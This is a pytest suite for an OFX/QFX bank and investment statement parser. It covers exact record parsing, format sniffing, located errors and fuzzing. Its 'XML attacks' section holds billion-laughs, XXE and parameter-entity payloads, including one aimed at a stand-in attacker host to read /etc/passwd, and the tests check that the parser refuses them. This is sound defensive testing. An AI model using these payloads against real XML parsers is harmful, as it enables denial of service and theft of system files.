"""OFX/QFX parser: exact records from SGML 1.02, XML 2.2 and investment files, real-world quirks,
located errors, refusal of DTDs (billion laughs, XXE) without any network access, robustness."""

from __future__ import annotations

import io
import socket
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from tests.unit.statements.mutation import mutated
from hypothesis import HealthCheck, given, settings


from cio_desktop.domain.statements import InvestmentPosition, Statement, StatementLine
from cio_desktop.errors import ValidationError
from cio_desktop.integrations.statements import ofx
from cio_desktop.integrations.statements.ofx import parse, sniff

DATA = Path(__file__).resolve().parents[2] / "data" / "statements" / "ofx"
SAMPLES = sorted(p.name for p in DATA.iterdir())
D = Decimal


def load(name: str, data: bytes | None = None) -> list[tuple[Statement, list[StatementLine]]]:
    raw = data if data is not None else (DATA / name).read_bytes()
    return [(s, list(s.lines)) for s in parse(io.BytesIO(raw), name)]


def error_of(data: bytes | str, name: str = "bad.ofx", encoding: str = "utf-8") -> ValidationError:
    raw = data.encode(encoding) if isinstance(data, str) else data
    with pytest.raises(ValidationError) as info:
        load(name, raw)
    return info.value


BANK = (DATA / "bank_102_sgml_cp1252.ofx").read_bytes().decode("cp1252")
CARD = (DATA / "creditcard_220.ofx").read_bytes().decode("utf-8")


# ---------------------------------------------------------------------------------------------
# exact records
# ---------------------------------------------------------------------------------------------
def test_sgml_102_bank_file_with_two_statements_cp1252_and_unclosed_tags():
    [(chk, lines), (sav, sav_lines)] = load("bank_102_sgml_cp1252.ofx")
    assert (chk.format, chk.account, chk.currency, chk.statement_id, chk.line) == \
        ("ofx", "4417001234", "USD", "1001", 34)
    assert chk.opening_balance is None and chk.opening_date is None
    assert (chk.closing_balance, chk.closing_date) == (D("10415.88"), date(2026, 2, 28))
    assert chk.extra == {"ofx_version": "102", "kind": "bank", "bank_id": "121000248", "branch_id": "",
                         "account_type": "CHECKING", "period_start": date(2026, 2, 1),
                         "period_end": date(2026, 2, 28), "available_balance": D("10215.88"),
                         "available_date": date(2026, 2, 28)}
    assert lines == [
        StatementLine(booking_date=date(2026, 2, 2), amount=D("-84.12"), currency="USD",
                      value_date=date(2026, 2, 1), counterparty="AT&T MOBILITY",
                      reference="202602020001", description="Autopay 0126", bank_code="DEBIT", line=44),
        StatementLine(booking_date=date(2026, 2, 5), amount=D("-1500.00"), currency="USD",
                      counterparty="Café Rouge Catering", reference="202602050002",
                      description="check no. 1043", bank_code="CHECK", line=53),
        StatementLine(booking_date=date(2026, 2, 15), amount=D("12500.00"), currency="USD",
                      counterparty="ACME PAYROLL SERVICES INTERNATIONAL LLC", reference="202602150003",
                      description="Payroll Feb 2026 – € bonus; ref. PR-2026-02", bank_code="DIRECTDEP",
                      line=61),
        # an empty <MEMO> right before </STMTTRN>, and a BANKACCTTO aggregate
        StatementLine(booking_date=date(2026, 2, 20), amount=D("-2000.00"), currency="USD",
                      counterparty="Transfer to savings", counterparty_account="4417009876",
                      reference="202602200004", description="", bank_code="XFER", line=70),
    ]
    assert (sav.account, sav.statement_id, sav.closing_balance, sav.line) == \
        ("4417009876", "1002", D("25004.17"), 100)
    assert sav.extra["account_type"] == "SAVINGS" and "available_balance" not in sav.extra
    assert [(x.amount, x.bank_code, x.counterparty, x.line) for x in sav_lines] == [
        (D("2000.00"), "XFER", "Transfer from checking", 110), (D("4.17"), "INT", "Interest paid", 117)]


def test_xml_220_credit_card_statement():
    [(st_, lines)] = load("creditcard_220.ofx")
    assert (st_.account, st_.currency, st_.statement_id, st_.line) == \
        ("5412750012347788", "EUR", "cc-2026-02", 15)
    assert (st_.closing_balance, st_.closing_date) == (D("-1234.56"), date(2026, 2, 28))
    assert st_.extra["kind"] == "creditcard" and st_.extra["ofx_version"] == "220"
    assert st_.extra["available_balance"] == D("3765.44")
    assert lines == [
        StatementLine(booking_date=date(2026, 2, 3), amount=D("-245.90"), currency="EUR",
                      value_date=date(2026, 2, 1), counterparty="Deutsche Lufthansa AG",
                      reference="CC20260203-01", description="Flug FRA–MUC LH 2041",
                      bank_code="DEBIT", line=21),
        # PAYEE aggregate instead of NAME; ORIGCURRENCY only informs
        StatementLine(booking_date=date(2026, 2, 10), amount=D("-612.40"), currency="EUR",
                      value_date=date(2026, 2, 8), counterparty="Hôtel Le Meurice",
                      reference="CC20260210-02", description="2 nights, conference",
                      bank_code="DEBIT", line=30),
        # CURRENCY: the amount is in USD; converted at CURRATE and rounded to the cent
        StatementLine(booking_date=date(2026, 2, 14), amount=D("-99.00"), currency="EUR",
                      counterparty="AWS EMEA SARL", reference="CC20260214-03",
                      description="Cloud services; USD -107.28 at 0.9228", bank_code="DEBIT", line=47),
        StatementLine(booking_date=date(2026, 2, 18), amount=D("45.00"), currency="EUR",
                      counterparty="Smith & Sons Ltd", reference="CC20260218-04",
                      description="Refund – order 5531", bank_code="CREDIT", line=56),
        StatementLine(booking_date=date(2026, 2, 25), amount=D("500.00"), currency="EUR",
                      counterparty="Payment - thank you", reference="CC20260225-05",
                      bank_code="PAYMENT", line=64),
        # 23:30 EST on 28 Feb is 1 March in UTC: the posting date stays the date written
        StatementLine(booking_date=date(2026, 2, 28), amount=D("-3.50"), currency="EUR",
                      counterparty="Foreign transaction fee", reference="CC20260228-06",
                      bank_code="FEE", line=71),
    ]


def test_investment_statement_positions_and_cash_lines():
    [(st_, lines)] = load("investment_102.qfx")
    assert (st_.account, st_.currency, st_.statement_id, st_.line) == \
        ("X-7731-02", "USD", "inv-2026-02", 35)
    assert (st_.closing_balance, st_.closing_date) == (D("7189.05"), date(2026, 2, 27))
    assert st_.extra["broker_id"] == "brokerage.example.com"
    assert st_.extra["skipped_transactions"] == 1          # the REINVEST moves no cash
    assert st_.extra["positions"] == [
        InvestmentPosition(security_id="037833100", id_type="CUSIP", quantity=D("100"),
                           unit_price=D("230.10"), market_value=D("23010.00"), currency="USD",
                           as_of=date(2026, 2, 27), name="APPLE INC"),
        InvestmentPosition(security_id="IE00B4L5Y983", id_type="ISIN", quantity=D("150.125"),
                           unit_price=D("98.75"), market_value=D("14824.84"), currency="EUR",
                           as_of=date(2026, 2, 26), name="iShares Core MSCI World UCITS ETF"),
        InvestmentPosition(security_id="912828YK0", id_type="CUSIP", quantity=D("10000"),
                           unit_price=D("99.125"), market_value=D("9912.50"), currency="USD",
                           as_of=date(2026, 2, 27), name="US TREASURY N/B 1.625% 15/11/2029"),
        InvestmentPosition(security_id="88160R101", id_type="CUSIP", quantity=D("-20"),
                           unit_price=D("301.00"), market_value=D("-6020.00"), currency="USD",
                           as_of=date(2026, 2, 27), name="TESLA INC"),
    ]
    assert lines == [
        StatementLine(booking_date=date(2026, 2, 2), amount=D("25000.00"), currency="USD",
                      counterparty="Wire from operating account", reference="T-1000",
                      description="Funding", bank_code="CREDIT", line=46),
        StatementLine(booking_date=date(2026, 2, 4), amount=D("-22754.95"), currency="USD",
                      value_date=date(2026, 2, 5), counterparty="APPLE INC", reference="T-1001",
                      description="Buy 100 APPLE INC @ 227.50 — Limit order", bank_code="BUYSTOCK",
                      line=56),
        StatementLine(booking_date=date(2026, 2, 12), amount=D("4919.00"), currency="USD",
                      value_date=date(2026, 2, 13), counterparty="iShares Core MSCI World UCITS ETF",
                      reference="T-1002",
                      description="Sell 50 iShares Core MSCI World UCITS ETF @ 98.40",
                      bank_code="SELLMF", line=77),
        StatementLine(booking_date=date(2026, 2, 15), amount=D("25.00"), currency="USD",
                      value_date=date(2026, 2, 15), counterparty="APPLE INC", reference="T-1003",
                      description="DIV APPLE INC — Quarterly dividend", bank_code="INCOME/DIV",
                      line=97),
    ]
    # the account was empty at the start of the period: the cash lines add up to AVAILCASH
    assert sum(line.amount for line in lines) == st_.closing_balance


def test_real_world_quirks_short_header_raw_ampersand_empty_elements_comma_decimal():
    [(st_, lines)] = load("quirks_short_header_utf8.ofx")
    assert (st_.account, st_.currency, st_.closing_balance) == ("DE12500105170648489890", "EUR", D("980.00"))
    assert lines == [
        # midnight CET: ofxtools would give 28 Feb (UTC); the bank booked it on 1 March
        StatementLine(booking_date=date(2026, 3, 1), amount=D("-12.50"), currency="EUR",
                      counterparty="Barnes & Noble Café", reference="Q-1", bank_code="POS", line=13),
        StatementLine(booking_date=date(2026, 3, 1), amount=D("-7.5"), currency="EUR",
                      counterparty="Rewe Markt GmbH", reference="Q-2", bank_code="DEBIT", line=15),
    ]


def test_header_charset_is_used_when_text_is_not_utf8():
    # cp1252 bytes in a file that declares CHARSET:1252: é and € decode as the bank meant
    [(_s, lines), _] = load("bank_102_sgml_cp1252.ofx")
    assert lines[1].counterparty == "Café Rouge Catering" and "€" in lines[2].description


def test_headerless_ofx_and_xml_without_ofx_pi():
    body = CARD.split("<OFX>", 1)[1]
    [(st_, lines)] = load("x.ofx", ("<OFX>" + body).encode())
    assert len(lines) == 6 and st_.extra["ofx_version"] == ""
    [(st_, _)] = load("x.ofx", ('<?xml version="1.0"?>\n<OFX>' + body).encode())
    assert st_.account == "5412750012347788"


def test_unclosed_sibling_aggregate_is_closed_by_the_next_one():
    text = BANK.replace("<MEMO>Autopay 0126\r\n</STMTTRN>", "<MEMO>Autopay 0126\r\n", 1)
    [(st_, lines), _] = load("x.ofx", text.encode("cp1252"))
    assert [x.reference for x in lines] == ["202602020001", "202602050002", "202602150003",
                                            "202602200004"]


# ---------------------------------------------------------------------------------------------
# sniffing
# ---------------------------------------------------------------------------------------------
@pytest.mark.parametrize("name", SAMPLES)
def test_sniff_recognises_samples(name):
    assert sniff((DATA / name).read_bytes()[:65536], name)


@pytest.mark.parametrize("head", [
    b"", b":20:STARTUMSE\r\n:25:10020030/1234567\r\n", b"date,amount\r\n2026-01-01,1.00\r\n",
    b'<?xml version="1.0"?><Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.02">',
    b"01,BANKID,CUSTID,260301,0800,1,80,1,2/", b"\x00\x01\x02",
])
def test_sniff_rejects_other_formats(head):
    assert not sniff(head, "x")
    assert ofx.FORMAT == "ofx"


# ---------------------------------------------------------------------------------------------
# bad input: located errors
# ---------------------------------------------------------------------------------------------
def _sub(old: str, new: str, text: str = BANK) -> str:
    assert old in text, old
    return text.replace(old, new, 1)


@pytest.mark.parametrize("text, line, field, words", [
    pytest.param(_sub("<DTPOSTED>20260205120000.000", "<DTPOSTED>20260230120000.000"), 55, "DTPOSTED",
                 "'20260230120000.000[-5:EST]' is not a calendar date", id="impossible-date"),
    pytest.param(_sub("<DTPOSTED>20260215", "<DTPOSTED>15.02.2026"), 63, "DTPOSTED",
                 "is not an OFX date", id="date-format"),
    pytest.param(_sub("<TRNAMT>12500.00", "<TRNAMT>12.500,00"), 64, "TRNAMT",
                 "no thousands separators", id="wrong-decimal-mark"),
    pytest.param(_sub("<CURDEF>USD", "<CURDEF>XYZ"), 35, "CURDEF",
                 "'XYZ' is not an ISO 4217 currency", id="unknown-currency"),
    pytest.param(_sub("<CURDEF>USD\r\n", ""), 34, "CURDEF", "required", id="missing-curdef"),
    pytest.param(_sub("<DTPOSTED>20260215\r\n", ""), 61, "DTPOSTED", "<STMTTRN> has no <DTPOSTED>",
                 id="missing-dtposted"),
    pytest.param(_sub("<TRNAMT>-84.12\r\n", ""), 44, "TRNAMT", "has no <TRNAMT>", id="missing-trnamt"),
    pytest.param(_sub("<ACCTID>4417001234\r\n", ""), 36, "ACCTID", "has no <ACCTID>",
                 id="missing-acctid"),
    pytest.param(_sub("<BALAMT>10415.88\r\n", ""), 84, "BALAMT", "has no <BALAMT>", id="missing-balamt"),
    pytest.param(BANK[:BANK.index("<FITID>202602150003")], 61, "STMTTRN", "truncated",
                 id="truncated"),
    pytest.param(BANK[:BANK.index("<TRNAMT>12500") + 5], 64, None, "unexpected markup or text '<TRNA'",
                 id="truncated-mid-tag"),
    pytest.param(_sub("</BANKTRANLIST>", "</BANKTRANLIST>\r\n</STMTTRN>"), 84, "STMTTRN",
                 "closing tag </STMTTRN> without a matching <STMTTRN>", id="stray-close-tag"),
    pytest.param(_sub("<NAME>Interest paid", "<NAME>Interest paid</NAME> trailing words"), 122, "NAME",
                 "unexpected text 'trailing words'", id="tail-text"),
    pytest.param(_sub("</OFX>", "</OFX>\r\n<STMTTRN>"), 133, "STMTTRN", "outside the <OFX> element",
                 id="outside-root"),
    pytest.param(_sub("<TRNAMT>-84.12", "<TRNAMT>-84.12<b>"), 48, None, "unexpected markup", id="lowercase-tag"),
])
def test_bad_input_is_located(text, line, field, words):
    err = error_of(text, encoding="cp1252")
    assert (err.source, err.line, err.field) == ("bad.ofx", line, field), str(err)
    assert words in err.reason, err.reason


def test_bank_error_status_without_statement():
    text = """OFXHEADER:100
DATA:OFXSGML
VERSION:102
SECURITY:NONE
ENCODING:USASCII
CHARSET:1252
COMPRESSION:NONE
OLDFILEUID:NONE
NEWFILEUID:NONE

<OFX><SIGNONMSGSRSV1><SONRS><STATUS><CODE>0<SEVERITY>INFO</STATUS><DTSERVER>20260301
<LANGUAGE>ENG</SONRS></SIGNONMSGSRSV1><BANKMSGSRSV1><STMTTRNRS><TRNUID>1
<STATUS><CODE>2000<SEVERITY>ERROR<MESSAGE>Account closed</STATUS></STMTTRNRS></BANKMSGSRSV1></OFX>
"""
    err = error_of(text)
    assert (err.line, err.field) == (13, "STATUS")
    assert "error 2000" in err.reason and "Account closed" in err.reason


def test_file_without_any_statement():
    err = error_of("<OFX><SIGNONMSGSRSV1><SONRS><STATUS><CODE>0</CODE></STATUS></SONRS>"
                   "</SIGNONMSGSRSV1></OFX>")
    assert (err.line, err.field) == (1, "OFX") and "holds no bank" in err.reason


@pytest.mark.parametrize("raw, line, words", [
    (b"", 1, "the file is empty"),
    (b"\r\n  \r\n", 1, "the file is empty"),
    (bytes(range(256)) * 4, 1, "not an OFX file"),
    (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n", 1, "not an OFX file"),
    (b"OFXHEADER:100\r\nDATA:OFXSGML\r\n\x00\xff\xfe", 3, "no <OFX> element"),
])
def test_empty_binary_and_foreign_files(raw, line, words):
    err = error_of(raw)
    assert err.line == line and words in err.reason, str(err)


# ---------------------------------------------------------------------------------------------
# XML attacks: refused, never expanded, never fetched
# ---------------------------------------------------------------------------------------------
@pytest.fixture
def no_network(monkeypatch):
    def refuse(*_a, **_k):
        raise AssertionError("the OFX parser tried to use the network")

    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)


def _xml_ofx(prolog: str, name: str) -> str:
    body = CARD.split("<OFX>", 1)[1].replace("<NAME>Deutsche Lufthansa AG</NAME>", f"<NAME>{name}</NAME>")
    return ('<?xml version="1.0" encoding="UTF-8"?>\n' + prolog +
            '<?OFX OFXHEADER="200" VERSION="220" SECURITY="NONE" OLDFILEUID="NONE" '
            'NEWFILEUID="NONE"?>\n<OFX>' + body)


BILLION_LAUGHS = ('<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
                  + "".join(f' <!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">\n'
                            for i in range(1, 10))
                  + "]>\n")
XXE = '<!DOCTYPE foo [\n <!ENTITY xxe SYSTEM "http://attacker.invalid/steal?f=/etc/passwd">\n]>\n'
PARAM = '<!DOCTYPE foo [ <!ENTITY % ext SYSTEM "file:///etc/passwd"> %ext; ]>\n'


@pytest.mark.parametrize("prolog, name, line, field", [
    (BILLION_LAUGHS, "&lol9;", 2, "DOCTYPE"),
    (XXE, "&xxe;", 2, "DOCTYPE"),
    (PARAM, "x", 2, "DOCTYPE"),
])
def test_dtd_entities_are_refused_without_network(no_network, prolog, name, line, field):
    err = error_of(_xml_ofx(prolog, name))
    assert (err.line, err.field) == (line, field)
    assert "refused for safety" in err.reason


def test_entity_declared_later_in_body_is_refused(no_network):
    text = _xml_ofx("", "x").replace("<BANKTRANLIST>", '<!ENTITY e SYSTEM "http://x.invalid/">'
                                                       "<BANKTRANLIST>")
    err = error_of(text)
    assert err.field == "ENTITY" and err.line == 18


def test_bare_doctype_without_internal_subset_is_ignored_and_not_fetched(no_network):
    prolog = '<!DOCTYPE OFX SYSTEM "http://dtd.invalid/ofx220.dtd">\n'
    [(_s, lines)] = load("x.ofx", _xml_ofx(prolog, "Lufthansa").encode())
    assert lines[0].counterparty == "Lufthansa" and lines[0].line == 22


def test_undeclared_entity_reference_stays_literal(no_network):
    [(_s, lines)] = load("x.ofx", _xml_ofx("", "&xxe;").encode())
    assert lines[0].counterparty == "&xxe;"


# ---------------------------------------------------------------------------------------------
# robustness: random byte-level mutations never escape as anything but ValidationError
# ---------------------------------------------------------------------------------------------
RAW_SAMPLES = [(DATA / n).read_bytes() for n in SAMPLES]


MUTATION_TOKENS = [b"<", b">", b"</", b"&", b"&amp;", b"&#99999999;",
    b"<STMTTRN>", b"</STMTTRN>", b"<MEMO>", b"<![CDATA[x]]>",
    b"<!--", b"-->", b"<?", b"\r\n", b"\x00", b"\xff",
    b".", b",", b"-", b"[", b"]", b"<CURRENCY>"]


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(mutated(RAW_SAMPLES, MUTATION_TOKENS, max_duplicate=300))
def test_mutated_ofx_never_crashes(data):
    try:
        for statement in parse(io.BytesIO(data), "fuzz.ofx"):
            assert isinstance(statement, Statement)
            for line in statement.lines:
                assert isinstance(line.amount, Decimal) and line.amount.is_finite()
                assert isinstance(line.booking_date, date)
            for position in statement.extra.get("positions", []):
                assert isinstance(position.quantity, Decimal)
    except ValidationError as err:
        assert err.source == "fuzz.ofx" and err.line is not None and err.line >= 1
